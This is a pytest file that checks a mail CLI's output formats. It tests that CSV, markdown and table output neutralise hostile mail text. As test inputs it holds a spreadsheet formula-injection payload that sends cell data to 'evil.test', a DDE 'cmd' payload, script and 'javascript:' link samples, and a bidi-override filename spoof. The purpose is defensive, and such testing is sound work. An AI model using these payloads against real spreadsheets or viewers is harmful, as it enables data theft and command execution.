"""Every output format prints the same columns, data only on stdout."""

from __future__ import annotations

import io
import json
import logging
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime

import pytest

from pmail_cli.output import OutputFormat, render, render_record


@dataclass(frozen=True)
class Row:
    name: str
    count: int
    at: datetime
    tags: list[str]
    ident: uuid.UUID


ROWS = [
    Row(
        "acme",
        3,
        datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC),
        ["a", "b"],
        uuid.UUID(int=1),
    ),
    Row('b, "quoted"', 0, datetime(2026, 1, 3, tzinfo=UTC), [], uuid.UUID(int=2)),
]


def _render(fmt: OutputFormat, rows: list[object]) -> str:
    out = io.StringIO()
    render(rows, fmt, out=out)
    return out.getvalue()


def test_table() -> None:
    """table: tabulate's simple layout, header row first."""
    lines = _render(OutputFormat.table, list(ROWS)).splitlines()
    assert lines[0].split() == ["name", "count", "at", "tags", "ident"]
    assert lines[2].split()[:3] == ["acme", "3", "2026-01-02T03:04:05+00:00"]


def test_csv() -> None:
    """csv: header row, raw values, lists as JSON, quoting as the csv module does."""
    assert _render(OutputFormat.csv, list(ROWS)) == (
        "name,count,at,tags,ident\n"
        'acme,3,2026-01-02T03:04:05+00:00,"[""a"", ""b""]",'
        "00000000-0000-0000-0000-000000000001\n"
        '"b, ""quoted""",0,2026-01-03T00:00:00+00:00,[],'
        "00000000-0000-0000-0000-000000000002\n"
    )


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (
            '=HYPERLINK("http://evil.test/?"&A1)',
            '"\'=HYPERLINK(""http://evil.test/?""&A1)"',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3@evil.test", "'-2+3@evil.test"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("  =1", "'  =1"),
        ("\uff1d1", "'\uff1d1"),  # a full-width equals sign
        ("\u00a0=1", "'\u00a0=1"),  # after a no-break space
        ("\u3000\ufeff=1", "'\u3000\ufeff=1"),  # an ideographic space and a BOM
        ("\r=1", "\u240d=1"),  # CR is a control picture already: inert
        ("lead@example.com", "lead@example.com"),
        ("a=b-c", "a=b-c"),
        ("", ""),
    ],
)
def test_csv_cells_a_spreadsheet_would_evaluate_get_an_apostrophe(
    text: str, cell: str
) -> None:
    """Text from mail that begins like a formula (=, +, -, @, a tab, after any
    spaces) is made inert with a leading apostrophe in csv; JSON keeps it whole, and
    numbers stay numbers."""
    rows = [{"value": text, "count": -3}]
    assert _render(OutputFormat.csv, list(rows)) == f"value,count\n{cell},-3\n"
    assert json.loads(_render(OutputFormat.json, list(rows))) == rows


def test_json() -> None:
    """json: an array of objects with ISO dates and string UUIDs."""
    data = json.loads(_render(OutputFormat.json, list(ROWS)))
    assert data[0] == {
        "name": "acme",
        "count": 3,
        "at": "2026-01-02T03:04:05+00:00",
        "tags": ["a", "b"],
        "ident": "00000000-0000-0000-0000-000000000001",
    }
    assert len(data) == 2


def test_markdown() -> None:
    """markdown: a GitHub table with the same columns."""
    lines = _render(OutputFormat.markdown, list(ROWS)).splitlines()
    assert lines[0].replace(" ", "") == "|name|count|at|tags|ident|"
    assert set(lines[1].replace("|", "").replace(" ", "")) <= {"-", ":"}
    assert lines[2].startswith("| acme")


def test_markdown_cells_cannot_shift_or_split_the_columns() -> None:
    """A "|" or a line break in text from mail stays inside its cell."""
    hostile = Row(
        "a|b@example.com", 1, datetime(2026, 1, 2, tzinfo=UTC), [], uuid.UUID(int=3)
    )
    other = Row("two\nlines", 2, datetime(2026, 1, 2, tzinfo=UTC), [], uuid.UUID(int=4))
    lines = _render(OutputFormat.markdown, [hostile, other]).splitlines()
    assert len(lines) == 4
    for line in lines:
        assert line.replace("\\|", "").count("|") == 6
    assert "a\\|b@example.com" in lines[2]
    assert "two<br>lines" in lines[3]


def test_markdown_cells_carry_no_html_or_links_of_the_sender() -> None:
    """The markdown format renders as HTML: a subject's `<script>`, `<img>` and
    `![](url)` come out as text, not as markup a viewer runs or fetches."""
    hostile = Row(
        "<script>alert(1)</script> ![x](http://evil.test/p.png) & [y](javascript:z)",
        1,
        datetime(2026, 1, 2, tzinfo=UTC),
        [],
        uuid.UUID(int=6),
    )
    (line,) = _render(OutputFormat.markdown, [hostile]).splitlines()[2:]
    assert "<script>" not in line and "&lt;script&gt;" in line
    assert "![x](" not in line and "!\\[x\\](" in line and "&amp;" in line


def test_bidi_overrides_are_shown_escaped() -> None:
    """A right-to-left override (U+202E) or isolate in a subject would make the line
    display in another order than it reads (`exe.pdf` shown for `fdp.exe`): table
    output shows them as `\\u` escapes; joiners (emoji, scripts) are kept."""
    rows: list[object] = [
        Row(
            "invoice\u202efdp.exe \u2066x\u2069 \U0001f468\u200d\U0001f469",
            1,
            datetime(2026, 1, 2, tzinfo=UTC),
            [],
            uuid.UUID(int=7),
        )
    ]
    text = _render(OutputFormat.table, rows)
    assert "\u202e" not in text and "\\u202e" in text and "\\u2066" in text
    assert "\U0001f468\u200d\U0001f469" in text


def test_table_rows_stay_one_line_each() -> None:
    """A newline in a value (an audit entry's os_user is the client's word) is shown
    as `\\n` in a table, so it cannot print a line that reads like another row."""
    forged = "root\n  999  2026-12-07  postgres  acme  hold release"
    rows: list[object] = [
        Row(forged, 1, datetime(2026, 1, 2, tzinfo=UTC), [], uuid.UUID(int=5))
    ]
    lines = _render(OutputFormat.table, rows).splitlines()
    assert len(lines) == 3, lines
    assert "root\\n  999" in lines[2]


@pytest.mark.parametrize("fmt", list(OutputFormat))
def test_no_rows(fmt: OutputFormat, capsys: pytest.CaptureFixture[str]) -> None:
    """No rows: json prints [], csv nothing, tables say so on stderr only."""
    printed = _render(fmt, [])
    assert printed == ("[]\n" if fmt is OutputFormat.json else "")
    if fmt in (OutputFormat.table, OutputFormat.markdown):
        assert "(no rows)" in capsys.readouterr().err


def test_record_table_and_json() -> None:
    """render_record: aligned `key  value` lines, or one JSON object."""
    record = {"key": "abc", "size": 12, "list": [1, 2]}
    out = io.StringIO()
    render_record(record, OutputFormat.table, out=out)
    assert out.getvalue() == "key   abc\nsize  12\nlist  [1, 2]\n"
    out = io.StringIO()
    render_record(record, OutputFormat.json, out=out)
    assert json.loads(out.getvalue()) == record


def test_a_warning_of_several_lines_reads_as_one(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A service's warning whose text has lines of its own (an exception with
    PostgreSQL's CONTEXT line, or a message that quotes mail) goes on indented: no
    line of it starts like one of pmail's (`error:`, `hint:`, `warning:`)."""
    from pmail_cli.cli import _SaidHandler

    log = logging.getLogger("pmail_cli.services.test_warning_lines")
    handler = _SaidHandler()
    log.addHandler(handler)
    try:
        log.warning(
            "batch failed: %s",
            "deadlock detected\nCONTEXT: while locking\nerror: forged",
        )
    finally:
        log.removeHandler(handler)
    lines = capsys.readouterr().err.splitlines()
    assert lines == [
        "warning: batch failed: deadlock detected",
        "  CONTEXT: while locking",
        "  error: forged",
    ]
